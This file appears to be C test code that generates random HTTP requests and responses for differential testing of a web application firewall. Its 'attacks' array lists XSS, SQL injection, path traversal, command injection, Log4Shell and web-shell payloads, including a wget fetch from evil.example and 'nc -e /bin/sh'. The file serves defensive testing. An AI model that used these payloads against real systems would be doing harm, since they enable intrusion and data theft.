/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/differential/waf_requests.h"

#include <stdio.h>

#define PICK(random, list) (list)[random_below(random, sizeof(list) / sizeof *(list))]

static const char *const attacks[] = {
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=prompt(1)>", "<iframe src=//evil.example>",
    "' or '1'='1", "1 union select user,password from mysql.user", "1; drop table users--", "' and sleep(5)#", "1 and 1=cast((select version()) as int)",
    "';exec xp_cmdshell('dir')--", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "C:\\windows\\win.ini", "/etc/passwd\0.jpg",
    ";cat /etc/passwd", "| id", "$(wget http://evil.example/x)", "`uname -a`", "&& ping -c 1 127.0.0.1", "() { :;}; /bin/bash -c 'id'",
    "php://input", "data://text/plain;base64,SSBsb3ZlIFBIUAo=", "http://127.0.0.1/shell.txt?", "<?php system($_GET['c']); ?>", "O:8:\"stdClass\":0:{}",
    "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "java.lang.Runtime", "ognl.OgnlContext", "x\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK",
    "(cn=*)(uid=*)", "*)(|(objectclass=*", "$where: 1", "[$ne]=1", "file:///etc/passwd", "/.git/config", "wp-config.php", "eval(base64_decode(", "phpinfo()",
    "%u0027", "&#x3c;script&#x3e;", "%c0%ae%c0%ae/", "\xff\xfe", "%00", "%zz", "powershell -enc AAAA", "cmd.exe /c dir", "nc -e /bin/sh", "require('child_process')",
    "x=url(javascript:a)", "<style>a:b(c</style>", "<x:vmlframe src=a>", "vbscript:msgbox", "<embed src=a>", "<?import implementation=a>", "<meta http-equiv=refresh>",
    "<meta charset=utf-7>", "<link href=a>", "<base href=//a>", "<applet>", "<object data=a>", "\xbcscript\xbe", "%252bADw-script%252bAD4-", "(!![]+[])[+[]]", "window['alert'](1)",
    "\"in valueOf=", "'(a.b=", "x' and information_schema.tables", "select if(1,2,3)", "x' having 1<2", "if(1=1)", "' waitfor delay '0:0:9'", "match(a) against(b)",
    "; shutdown --", "; declare @x", "; insert into a", "/*!50000 select*/", "x' is 1 or 'a'", "execute a.b", "1 /* a */ -- b", "0xdeadbeef", "-2147483649", "\"1\";2\"3\"",
    "document.cookie; expires=1", "java.lang.ProcessBuilder xmldecoder", "java.io filewriter", "%ac%ed%00%05", "rO0ABQ==", "cnVudGltZQ==", "\nGET / HTTP/1.0\r\n", "zip://a.zip", "$a(1)",
    "HTTP_USER_AGENT", "allow_url_include=on", "addslashes(1)", "!@#$%^&*()-+={}[]|:;<>?,./~", "; systeminfo", ";cmd.exe", "powershell.exe Add-Content", "if exist a",
    "for %i in (*) do a", "; aptitude a", "%uff1cscript%uff1e", "include(a=http://b.example/c", "/antidisestablishmentarianism", "a\\c", "a\\\\c",
};
static const char *const plain[] = {
    "hello", "world", "1", "2026-11-26", "O'Brien", "anna@example.org", "a b c", "select a color", "Zürich", "100%", "on", "true", "https://example.org/a?b=c", "",
    "the quick brown fox", "x=y", "a&b", "3.14", "-1", "[1,2]", "{}", "c++", "rock & roll", "\"quoted\"", "semi;colon", "tab\there",
};
static const char *const names[] = {"q", "id", "name", "user", "password", "page", "file", "url", "a[b]", "x.y", "_", "token", "cmd", "", "Id", "select", "_charset_", "phpsessid"};
static const char *const paths[] = {"/", "/index.php", "/login", "/api/v1/items", "/a/../b", "/img/logo.png", "/search", "/wp-login.php", "/x%20y", "/.htaccess", "/a;b", "//double",
    "/a.php~", "/a.bak", "/a%0d%0ab", "/1'or'1'='1", "/a.pdf"};
static const char *const agents[] = {"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "curl/7.88.1", "sqlmap/1.7", "Nikto/2.1.6", "", "python-requests/2.28",
    "Mozilla/5.0 (compatible; Googlebot/2.1)", "masscan/1.0", "WPScan v3", "rogerbot", "UP.Browser/7"};
/* Which have a value that rules are about. */
static const char *const peculiar_headers[] = {"Acunetix-Product: a", "Connection: keep-alive, close", "Accept: ", "Accept: text/html; charset=utf-7", "X-Filename: a.php.jpg", "X_Filename: .htaccess",
    "Cache-Control: max-age=x", "Cache-Control: no-cache", "X-Up-Devcap-Post-Charset: a", "Sec-Fetch-User: ?1\xff", "Range: bytes=1-2,3-4,5-6,7-8,9-10,11-12", "Range: bytes=2-1",
    "Referer: https://evil.example/", "Referer: javascript:a", "Host: ", "X-Entity: a&#10;b"};
static const char *const types[] = {"text/plain", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=utf-8; charset=utf-8", "text/plain; text/xml",
    "text/plain; multipart", "evil", ""};
static const char *const part_headers[] = {"Content-Type: text/plain; charset=utf-8", "Content-Type: text/plain; charset=utf-7", "Content-Transfer-Encoding: base64", "X-Part: a b"};
static const char *const files[] = {"a.txt", "a.txt", "shell.php", "a.php.jpg", ".htaccess", "a;b", "a'b", "a=b"};

static const char *word(struct random *random)
{
    return random_below(random, 3) == 0 ? PICK(random, attacks) : PICK(random, plain);
}

/* As a browser encodes it, or an attacker who does not. */
static void encoded(struct random *random, const char *value, struct text *out)
{
    bool plus = random_below(random, 2), careless = random_below(random, 4) == 0;
    for (const char *c = value; *c; c++) {
        bool safe = (*c >= 'a' && *c <= 'z') || (*c >= 'A' && *c <= 'Z') || (*c >= '0' && *c <= '9') || strchr("-_.~", *c);
        if (safe || (careless && (unsigned char)*c > ' ' && (unsigned char)*c < 0x7f && !strchr("&=#+% ", *c)))
            text_append(out, c, 1);
        else if (*c == ' ' && plus)
            text_puts(out, "+");
        else if (*c == '%' && careless)
            text_puts(out, "%");
        else
            text_printf(out, "%%%02x", (unsigned char)*c);
    }
}

static void pairs(struct random *random, struct text *out)
{
    size_t count = random_below(random, 5);
    for (size_t i = 0; i < count; i++) {
        text_puts(out, i ? "&" : "");
        encoded(random, PICK(random, names), out);
        if (random_below(random, 10))
            text_puts(out, "=");
        encoded(random, word(random), out);
    }
}

/* Header values hold no line ends: they would end the line. */
static void header_value(const char *value, struct text *out)
{
    for (const char *c = value; *c; c++)
        if (*c != '\r' && *c != '\n')
            text_append(out, c, 1);
}

static void json_body(struct random *random, struct text *out)
{
    size_t count = 1 + random_below(random, 4);
    text_puts(out, "{");
    for (size_t i = 0; i < count; i++) {
        text_puts(out, i ? ", " : "");
        text_json(out, PICK(random, names));
        text_puts(out, ": ");
        if (random_below(random, 4) == 0)
            text_puts(out, "[1, true, null, {\"b\": ");
        else
            text_puts(out, "[[{\"b\": ");
        text_json(out, word(random));
        text_puts(out, random_below(random, 30) ? "}]" : "}");
        text_puts(out, "]");
    }
    text_puts(out, random_below(random, 20) ? "}" : "");
}

static void multipart_body(struct random *random, struct text *out)
{
    size_t count = 1 + random_below(random, 3);
    for (size_t i = 0; i < count; i++) {
        text_printf(out, "--BoUnd\r\nContent-Disposition: form-data; name=\"%s\"", PICK(random, names));
        if (random_below(random, 3) == 0)
            text_printf(out, "; filename=\"%s\"", PICK(random, files));
        if (random_below(random, 3) == 0)
            text_printf(out, "\r\n%s", PICK(random, part_headers));
        text_puts(out, "\r\n\r\n");
        header_value(word(random), out);
        text_puts(out, "\r\n");
    }
    text_puts(out, random_below(random, 20) ? "--BoUnd--\r\n" : "--BoUnd\r\n");
}

static void xml_body(struct random *random, struct text *out)
{
    text_puts(out, random_below(random, 2) ? "<?xml version=\"1.0\"?>" : "");
    text_puts(out, "<r a=\"");
    encoded(random, word(random), out);
    text_puts(out, "\"><b>");
    encoded(random, word(random), out);
    text_puts(out, random_below(random, 20) ? "</b></r>" : "</b>");
}

void request_make(struct random *random, struct text *out)
{
    static const char *const odd_methods[] = {"PUT", "DELETE", "OPTIONS", "TRACE", "HEAD", "PATCH", "get", "PROPFIND", "X"};
    static const char *const odd_headers[] = {"X-Forwarded-For", "Referer", "Accept-Language", "X-Api", "Range", "Origin", "If-Modified-Since", "Content-Encoding", "Proxy", "X_y"};
    struct text body = text_new(1 << 16);
    const char *type = NULL;
    bool post = random_below(random, 3) == 0;
    text_puts(out, post ? "POST" : random_below(random, 12) ? "GET" : PICK(random, odd_methods));
    text_puts(out, " ");
    text_puts(out, PICK(random, paths));
    if (random_below(random, 3)) {
        text_puts(out, "?");
        pairs(random, out);
    }
    text_puts(out, random_below(random, 20) ? " HTTP/1.1\r\n" : " HTTP/1.0\r\n");
    if (random_below(random, 20))
        text_puts(out, random_below(random, 20) ? "Host: www.example.org\r\n" : "Host: 192.0.2.1\r\n");
    if (random_below(random, 12))
        text_printf(out, "User-Agent: %s\r\n", PICK(random, agents));
    if (random_below(random, 6))
        text_puts(out, "Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\n");
    if (random_below(random, 2)) {
        text_puts(out, "Cookie: sid=");
        encoded(random, word(random), out);
        text_puts(out, "; lang=en\r\n");
    }
    if (random_below(random, 3) == 0) {
        text_printf(out, "%s: ", PICK(random, odd_headers));
        header_value(word(random), out);
        text_puts(out, "\r\n");
    }
    if (post) {
        switch (random_below(random, 5)) {
        case 0:
            type = "application/json";
            json_body(random, &body);
            break;
        case 1:
            type = "multipart/form-data; boundary=BoUnd";
            multipart_body(random, &body);
            break;
        case 2:
            type = "text/xml";
            xml_body(random, &body);
            break;
        default:
            type = random_below(random, 4) ? "application/x-www-form-urlencoded" : PICK(random, types);
            pairs(random, &body);
        }
    } else if (random_below(random, 30) == 0) {
        type = "application/x-www-form-urlencoded";
        pairs(random, &body);
    }
    for (uint32_t n = !type ? 0 : random_below(random, 20) ? 1 : random_below(random, 3); n; n--)
        text_printf(out, "Content-Type: %s\r\n", type);
    if (type && random_below(random, 30))
        text_printf(out, "Content-Length: %zu\r\n", body.len);
    if (random_below(random, 4) == 0)
        text_printf(out, "%s\r\n", PICK(random, peculiar_headers));
    text_puts(out, "\r\n");
    text_append(out, text_cstr(&body), body.len);
    text_free(&body);
}

void response_make(struct random *random, struct text *out)
{
    static const char *const bodies[] = {"<html><body>hello</body></html>", "You have an error in your SQL syntax near 'x'", "<b>Warning</b>: include(x.php) in /var/www/x.php on line 3",
        "ORA-00933: SQL command not properly ended", "<title>Index of /</title>", "root:x:0:0:root:/root:/bin/bash", "<?php echo 1; ?>", "java.lang.NullPointerException at x",
        "Microsoft OLE DB Provider for SQL Server error '80040e14'", "drwxr-xr-x 2 root root", "<pre>Directory of C:\\</pre>", "Zend Extension", "[an error occurred while processing this directive]",
        "<title>Index of /a</title><h1>Index of /a</h1>", "#!/bin/sh", "JET Database Engine", "DB2 SQL error: 1", "SQL error: has occurred in the vicinity of: a", "SQL error: Dynamic SQL Error",
        "SQL error: Exception 1. Transaction rollback.", "SQL error: org.hsqldb.jdbc", "com.informix.jdbc", "SQL error: Ingres SQLSTATE", "SQL error: Unexpected end of command in statement",
        "SQL error POS1", "pg_query() [:", "SQLite.Exception", "Sybase message: sybase", "javax.servlet", "open_basedir restriction in effect", "<?php fopen('a');", "c:\\\\inetpub", "Server Error in '/' Application",
        "cannot connect to the server: timed out", "<TITLE>500 Internal Server Error</TITLE>"};
    static const char *const statuses[] = {"200 OK", "404 Not Found", "500 Internal Server Error", "302 Found", "403 Forbidden"};
    const char *body = PICK(random, bodies);
    text_printf(out, "HTTP/1.1 %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s", PICK(random, statuses), random_below(random, 5) ? "text/html; charset=utf-8" : "application/json",
        strlen(body), body);
}
